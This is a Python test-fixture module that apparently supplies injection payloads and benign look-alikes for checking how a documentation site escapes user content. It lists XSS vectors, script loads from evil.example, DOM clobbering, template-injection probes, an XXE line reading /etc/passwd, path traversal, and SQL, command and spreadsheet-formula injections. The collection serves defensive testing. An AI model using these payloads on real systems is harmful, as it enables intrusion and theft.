"""Texts that somebody could type into a record to make a page do what it should not, and honest ones that look like it.

What runs in any of them would set `top.__hit`, call `alert` or make `taken` the title. Hosts end with `.example`: none
of them can be asked for anything.
"""

from __future__ import annotations

from collections.abc import Mapping
from itertools import chain
from types import MappingProxyType

_HIT = "top.__hit=1"

CLASSES: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {
        "scripts": (
            f"<script>{_HIT}</script>", f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{_HIT}</script>", f"<script\n>{_HIT}</script\t>",
            f"<scr<script>ipt>{_HIT}</scr</script>ipt>", f"<script type=module>{_HIT}</script>", f"<script/x>{_HIT}//</script",
            f"<svg><script>{_HIT}</script></svg>", "<script>document.title='taken'</script>", "<script>alert(1)</script>", f"\"><script>{_HIT}</script>",
        ),
        "handlers": (
            f"<img src=x onerror={_HIT}>", f"<svg onload={_HIT}>", f"<svg/onload={_HIT}//", f"<body onload={_HIT}>", f"<input autofocus onfocus={_HIT}>",
            f"<details open ontoggle={_HIT}>x</details>", f"<video><source onerror={_HIT}></video>", f"<marquee onstart={_HIT}>x", f"<a onmouseover={_HIT} href=#>x</a>",
            f"<IMG SRC=x OnErRoR={_HIT} >", f"<img src=x:x onerror\n=\n{_HIT}>", f"<p onbeforetoggle={_HIT} popover id=p>x</p>",
        ),
        "parser confusion": (
            f"<noscript><p title=\"</noscript><img src=x onerror={_HIT}>\">", f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={_HIT}&gt;\">",
            f"<svg></p><style><a id=\"</style><img src=1 onerror={_HIT}>\">", f"<template><img src=x onerror={_HIT}></template>", f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={_HIT} src>\">",
            f"<xmp><p title=\"</xmp><svg/onload={_HIT}>\">", f"<textarea></textarea><img src=x onerror={_HIT}>", f"<plaintext><img src=x onerror={_HIT}>",
            f"<math><annotation-xml encoding=\"text/html\"><img src=x onerror={_HIT}></annotation-xml>", f"<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x onerror={_HIT} src>\">",
            f"<svg><![CDATA[><img src=x onerror={_HIT}>]]>", f"<title><a title=\"</title><img src=x onerror={_HIT}>\">",
        ),
        "comments and declarations": (
            "<!-- never closed", "--> out <!--", "<!--><script>top.__hit=1</script>-->", "<!doctype html><html>", "<?php echo 1; ?>", "<?xml version='1.0'?>", "<![CDATA[ x ]]>",
            "<!-- --!><img src=x onerror=top.__hit=1> -->", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<%= 7*7 %>",
        ),
        "double quotes": (f"\" onmouseover=\"{_HIT}", f"\"><img src=x onerror={_HIT}>", "\" autofocus onfocus=\"top.__hit=1\" x=\"", "say \"no\"", "\"\"\"", "x\" style=\"position:fixed;inset:0"),
        "single quotes": (f"' onmouseover='{_HIT}", f"'><img src=x onerror={_HIT}>", "x' accesskey='x' onclick='top.__hit=1", "''", f"';{_HIT}//", "\\';alert(1);//"),
        "other quotes": (f"` onmouseover=`{_HIT}", "``<script>alert(1)</script>``", "x onerror=top.__hit=1 y", "a=b/onclick=alert(1)", f"${{{_HIT}}}", "&quot; onclick=&quot;alert(1)"),
        "script addresses": (
            "javascript:top.__hit=1", "[x](javascript:alert(1))", "<a href=javascript:alert(1)>x</a>", "<a href=\"java&#115;cript:top.__hit=1\">x</a>", "[x](JaVaScRiPt:top.__hit=1)",
            "<javascript:alert(1)>", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))", "<iframe src=javascript:alert(1)>",
            "<form action=javascript:alert(1)><button>x</button></form>", "[x](\u0001javascript:alert(1))",
        ),
        "other addresses": (
            "[x](data:text/html,<script>top.__hit=1</script>)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "[x](vbscript:msgbox(1))", "[x](//evil.example)", "[x](\\\\evil.example)", "[x](/etc/passwd)",
            "[x](file:///etc/passwd)", "https://evil.example/<script>", "www.evil.example", "mailto:x@evil.example?subject=y", "<https://evil.example>", "<img src=//evil.example/x.png>", "![x](https://evil.example/x.png)",
        ),
        "Markdown links": (
            "[Home]: https://evil.example", "[x][Home]", "[1]: https://evil.example \"x\"", "[x](y)", "[x](y \"z\")", "[x] (y)", "](https://evil.example)", "![alt](pic)", "[![x](y)](z)", "[x]: <y> 'z'", "[[wiki]]", "[x]{.y}", "[](x)", "\\[x\\](y)",
        ),
        "Markdown extensions": (
            "*[the]: EVIL", "*[HTML]: gone", "[^1]: note", "x[^1]", "[TOC]", "--8<-- \"/etc/passwd\"", "!!! danger \"x\"", "??? more", "///  details | x", "=== \"Tab\"", "::: module.name", "$x^2$", "\\(x\\)", "\\[x\\]", "==x==", "^^x^^", "~~x~~", "{++x++}", "{==x==}", "||Ctrl+Alt||", "++ctrl+c++", "- [ ] task", "(c) (tm) --> +/-",
        ),
        "attribute lists": (
            "{: onclick=alert(1) }", "x{: onclick=\"top.__hit=1\" }", "{:.bb-full}", "{: #title .md-typeset style=\"display:none\" }", "{#title}", "heading {#title}", "x {: #__search }", "{: href=javascript:alert(1) }", "**x**{: onmouseover=top.__hit=1 }", "{: data-md-component=dialog }",
        ),
        "fences and code": ("```mermaid", "``` {.mermaid onload=alert(1)}", "~~~ html", "`code`", "``", "`<b>`", "    four spaces", "```\n<script>", "`` ` ``", "#!python x"),
        "Markdown blocks": (
            "# heading", "heading #", "===", "---", "***", "- item", "+ item", "* item", "1. item", "1) item", "> quote", ": definition", "| a | b |", "|---|---|", "a | b", "\\", "ends in \\", "\\*", "*em*", "_em_", "**strong**", "__init__", "snake_case_name", "2 * 3 * 4", "***both***", "a*b*c",
        ),
        "emoji and icons": (":smile:", ":material-account:", ":fontawesome-brands-x:{ .big }", ":octicons-alert-24:", "&#x1F600;", "\U0001f469\u200d\U0001f692 x", "\U0001f3f4\U0001f3fb", "⚠️ x"),
        "templates": (
            "{{ 7*7 }}", "{% include '/etc/passwd' %}", "{# comment #}", "{## x ##}", "{{ config.items() }}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{%- endblock -%}", "{{ page.url }}", "{{ super() }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{{x}}}", "%s %(x)s {0} {x!r}", "$(id) `id`", "{{ macros }} {{ env }}",
        ),
        "front matter": ("---", "--- title: x", "title: x", "...", "%YAML 1.2", "!!python/object:x y", "&anchor *alias", "<<: *x", "- a: b", "x: [y", "template: /etc/passwd", "@x", "%x"),
        "clobbering": (
            "<img name=getElementById>", "<form id=bb-menu><input name=hidePopover></form>", "<a id=__md_scope href=//evil.example>x</a>", "<a id=__search>x</a>", "<a id=bb-search-open href=//evil.example/>x</a>", "<form name=body><input name=append></form>",
            "<div id=bb-facets></div>", "<input name=q id=bb-search-page>", "<img id=currentScript name=currentScript>", "<iframe name=top srcdoc=\"<script>top.__hit=1</script>\">", "__proto__", "constructor", "hasOwnProperty", "toString",
        ),
        "JSON inside pages": (
            f"</script><script>{_HIT}</script>", "<!--<script>", "</SCRIPT ><img src=x onerror=top.__hit=1>", "\"}</script>", "\\u003cscript\\u003e", "\\\"}]", "]]>", "]]>]]&gt;<script>alert(1)</script>", "{\"@id\": \"https://evil.example\"}", "http://schema.org/", "<\\/script>", "\\", "\\n\\t\\0",
        ),
        "pictures": (
            "</text><script>top.__hit=1</script><text>", "</svg><img src=x onerror=top.__hit=1>", "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>top.__hit=1</script></body></foreignObject>", "<image href=https://evil.example/x.png />", "<use href=data:image/svg+xml,x#x />",
            "<animate onbegin=top.__hit=1 attributeName=x dur=1s />", "</title><desc>", "<set attributeName=href to=javascript:alert(1) />", "url(https://evil.example/x)", "M0 0L1 1", "<a xlink:href=javascript:alert(1)><text>x</text></a>",
        ),
        "formulas": ("=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"x\")", "+1+1", "-1+1", "@SUM(1+1)", "=1+1", "|x", "%0A=1+1", "\"=1+1\"", ";=1+1", ",=1+1,", "'=1+1", "＝1+1"),
        "XML": ("]]>", "<![CDATA[<script>alert(1)</script>]]>", "&lt;b&gt;", "&amp;lt;script&amp;gt;", "&#x3C;script&#x3E;", "&nbsp;&copy;&hellip;", "&notanentity; &;", "&#0;&#x0;", "&#xD800;", "&copy x", "xmlns:x='y'", "<x:y xmlns:x='http://www.w3.org/1999/xhtml' />", "&amp;amp;"),
        "directions": (
            "שלום עולם", "مرحبا بالعالم (1)", "abc שלום 123 def", "\u200fx", "x\u200f", "القائم: 3 <b>", "\"שלום\"", "שלום > \" ' <", "عربي onclick=x", "خانه\u200cها",
        ),
        "refused marks": ("x\u202egnp.exe", "\u202dx", "\u2066x\u2069", "a\u200bb", "\u2060x", "x\ufeffy", "\x00x", "x\x07y", "\x1b[31mred", "x\u2028y", "\x85x", "\u200b", "\u00ad", "\ufffe"),
        "look-alikes": ("раураl.example", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "‹script›", "﹤img﹥", "ℐ𝓂𝑔", "ｊａｖａｓｃｒｉｐｔ:alert(1)", "Ⓑⓞⓛⓓ", "İstanbul ıI", "ß SS ẞ", "ǅ ﬁ ﬀ"),
        "marks on letters": ("Z̷̧̗͖̊̾a̶̢͉͇̅̏l̸̨̛̪͌̽g̵̛̦̿͝o̷͚̍", "e\u0301 é", "\u0301x", "n\u0303 ñ Å \u212b", "\u1100\u1161\u11a8 각", "क्षि ञ् ஃ", "x" + "\u0336" * 20, "ﷺ"),
        "layout": (
            "</main></article></div>", "</body></html>", "</div></div></div></section>", "</p></li></ul></td></tr></table>", "</a></h1></title></head>", "<main><article>", "<div style=position:fixed;inset:0;background:red>", "<table><tr><td>", "</nav></header>", "<footer>x</footer>", "</summary></details>", "<h1>x</h1>", "<dialog open>x</dialog>", "</figure></svg>", "</blockquote></code></pre>",
        ),
        "styles and heads": (
            "<style>*{display:none}</style>", "<link rel=stylesheet href=https://evil.example/x.css>", "<base href=https://evil.example/>", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">", "<form action=https://evil.example><input name=x><button>y</button></form>", "<iframe src=https://evil.example></iframe>", "<object data=https://evil.example></object>", "<embed src=https://evil.example>", "<p style=background:url(//evil.example/x)>x</p>",
            "<link rel=\"dns-prefetch preconnect\" href=//evil.example>", "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">", "@import url(//evil.example)", "</style><script>top.__hit=1</script>", "<a ping=//evil.example href=#>x</a>", "<portal src=//evil.example>", "<button formaction=//evil.example>x</button>",
        ),
        "theme": (
            "<a class=glightbox href=//evil.example>x</a>", "<div data-md-component=announce>x</div>", "<span class=md-annotation data-md-tooltip>x</span>", "<div class=tabbed-set data-tabs=1:2>x</div>", "<pre class=mermaid>graph TD;A--&gt;B</pre>", "<label for=__drawer>x</label>", "<input type=checkbox id=__search>", "<div hidden>x</div>", "<a href=# class=md-skip>x</a>", "<abbr title=x>the</abbr>", "<button data-clipboard-text=x>y</button>", "<div class=arithmatex>\\(x\\)</div>", "<p class=bb-full data-md-color-scheme=slate>x</p>",
        ),
        "search": (
            "<mark>found</mark>", "<div data-pagefind-ignore=all>x</div>", "<p data-pagefind-meta=title:taken>x</p>", "<p data-pagefind-filter=kind:taken>x</p>", "&lt;img src=x onerror=top.__hit=1&gt;", "&amp;lt;img src=x onerror=top.__hit=1&amp;gt;", "</mark><img src=x onerror=top.__hit=1>", "kind:briefing", "a|b\\|c\\", "place[data-place]", "<span data-pagefind-sort=date:9999>x</span>", "fr|\\\"", "x\\", "\\x|y",
        ),
        "paths": ("../../../../etc/passwd", "..\\..\\windows", "C:\\Users\\x", "/etc/passwd", "%2e%2e%2f", "con", "nul", "~", ".", "..", "*.yaml", "x\\y/z?q#h", "file.md#x"),
        "programs": ("'; DROP TABLE claims; --", "\" OR 1=1 --", "$(touch x)", "; rm -rf x", "| cat x", "%x%n%s", "{\"$ne\": 1}", "*)(uid=*", "\\input{x} \\write18{x}", "@misc{x, y={z}}", "% comment", "a~b^c_d #1 $2 & {x}", "\\documentclass{x}"),
        "look like values": ("no", "yes", "null", "Null", "~", "1.10", "0123", "0x1F", "1e3", "1_000", "12:30", "2017-11-03", ".5", "NaN", "true", "on", "None", "undefined", "[object Object]", "-0", "∞", "0.1 + 0.2"),
        "honest": (
            "List<String>", "AT&T", "O'Brien", "C#", "100 % *sure*", "Jennifer Null", "<3 & >2", "x < y > z", "Q&A: “why?”", "a – b — c", "10\u202f000\u00a0km", "e.g. 5'11\"", "Dwayne \"The Rock\" J.", "C:\\bin", "R&D; more", "50/50", "#1", "me@example.org", "1 + 1 = 2", "[sic]", "he [Abadi] said", "f(x) = {y | y > 0}", "¿Qué?", "東京 2020", "naïve café", "Łódź", "it’s", "…", "№ 5",
        ),
        "sizes": ("x", "W" * 299, "i" * 299, "a b " * 74, "&" * 300, "<" * 300, "\"" * 250, "[" * 200, "*" * 200, "é" * 300, "(" * 150 + ")" * 150, "\u0301" * 50 + "x", "東" * 300),
    }
)  # fmt: skip

STRINGS: tuple[str, ...] = tuple(dict.fromkeys(chain.from_iterable(CLASSES.values())))

PROSE: tuple[str, ...] = (
    "*em* and **strong**", "[a link](https://evil.example/a)", "[*x*](https://evil.example/?a=1&copy=2)", "one\n\n<b>two</b>\n\n# three", "line\n- item\n1. item", "[x](https://evil.example/a'onclick='b)", "[x](https://evil.example/{{7*7}})",
    "[a<b>](https://evil.example/c*d_e*f)", "**[x](https://evil.example/)**", "[x](https://evil.example/a_(b)_c)", "one\n\n    four spaces\n\n```\nx\n```", "x\n===\ny\n---\nz", "*[x](https://evil.example/)*{: onclick=alert(1) }",
    "[<img src=x onerror=top.__hit=1>](https://evil.example/)", "**<script>top.__hit=1</script>**", "a\n: b", "[x](https://evil.example/%22onclick=%22x)", "| a |\n|---|\n| b |", "<div>\n\n</div>", "> x\n\n{: onclick=alert(1) }",
)  # fmt: skip
"""For texts in which emphasis, links and paragraphs work, besides all others."""

SPOKEN: tuple[str, ...] = (
    "one\ntwo",
    "one\n\ntwo\n\n# three",
    "<p>one\n</p>\n<script>top.__hit=1</script>",
    "a\n\n\n\nb",
    "- a\n- b",
    "  x\n    y",
    "```\nx\n```",
    "a\n{: onclick=alert(1) }",
)
"""For words that may be on several lines."""

ADDRESSES: tuple[str, ...] = (
    "https://evil.example/'onmouseover='x", "https://evil.example/?a=1&copy=2&lt;b&gt;", "https://evil.example/{{7*7}}", "https://evil.example/](x)", "https://evil.example/((", "https://evil.example/)onclick=alert(1)(",
    "https://evil.example/*a*_b_", "https://evil.example/{:onclick=alert(1)}", "HTTPS://EVIL.EXAMPLE/X", "https://evil.example:8443/#x", "https://xn--fsq.example/", "https://例え.example/ü?ñ=é", "https://evil.example/%3Cscript%3E", "https://evil.example/$x^2$", "https://evil.example/|x|",
    "https://evil.example/javascript:alert(1)", "https://evil.example/#{x}", "https://evil.example/a;b,c!d~e", "https://[2001:db8::1]/x", "https://evil.example/]]%3E",
)  # fmt: skip
"""For fields that take web addresses, which refuse nearly all others."""
